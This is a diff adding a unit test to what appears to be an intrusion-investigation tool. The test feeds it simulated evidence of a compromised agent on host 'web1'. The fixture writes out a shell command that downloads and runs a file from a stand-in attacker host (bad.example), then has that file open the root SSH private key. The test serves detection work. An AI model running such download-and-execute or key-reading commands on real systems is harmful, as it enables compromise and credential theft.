@@ -65,6 +65,33 @@ TEST(Pursuit, FindsADeviceByWhatItsAgentDidWithoutAnOrder) {
   EXPECT_EQ(document.answer.door_kind, "supplier_channel");
 }
 
+TEST(Pursuit, FindsWhatTheAgentStartedWhereTheLogHasOnlyTheParentsId) {
+  const intel::Pack pack = detail::pack();
+  Evidence evidence;
+  detail::add_ordinary_days(evidence);
+  const auto by_id = [&](std::int64_t seconds, std::string_view pid, std::string_view path, std::string_view command,
+                         std::string_view parent) {
+    evidence.add(launch(later(noon, seconds), "web1", {pid, path, command, parent, {}, {}, {}}));
+  };
+  // The agent runs since before the log begins, and all that the log has of it is that it calls home.
+  evidence.add(detail::with(detail::with(detail::flow(later(noon, -3600), "web1", "quay.example", "2000", "9000"),
+                                         model::Attribute::actor_process_path, detail::agent),
+                            model::Attribute::actor_process_pid, "50"));
+  by_id(0, "900", "/bin/sh", "sh -c 'curl -s https://bad.example/a -o /var/tmp/a && /var/tmp/a'", "50");
+  by_id(1, "901", "/usr/bin/curl", "curl -s https://bad.example/a -o /var/tmp/a", "900");
+  evidence.add(detail::file_write(later(noon, 2), "web1", "/var/tmp/a", {"901", "/usr/bin/curl"}));
+  by_id(3, "902", "/var/tmp/a", "/var/tmp/a", "900");
+  evidence.add(detail::file_open(later(noon, 9), "web1", "/root/.ssh/id_rsa", {"902", "/var/tmp/a"}));
+  // An administrator's shell does the same as administrators do.
+  by_id(60, "700", "/bin/bash", "bash -c 'curl -s https://mirror.example/b -o /var/tmp/b'", "600");
+  const CaseDocument document = detail::investigate(evidence, &pack);
+  EXPECT_EQ(compromised(document), std::vector<std::string>{"web1"});
+  EXPECT_TRUE(rules(document).contains("agent-child-without-order"));
+  EXPECT_TRUE(rules(document).contains("credential-store-opened"));
+  EXPECT_EQ(document.answer.door_kind, "supplier_channel");
+  EXPECT_NE(std::ranges::find(evidence.steps(), "reading what the agent started"), evidence.steps().end());
+}
+
 TEST(Pursuit, FindsADeviceByAnIndicatorAndASecondByASharedTrait) {
   const intel::Pack pack = detail::pack();
   Evidence evidence;
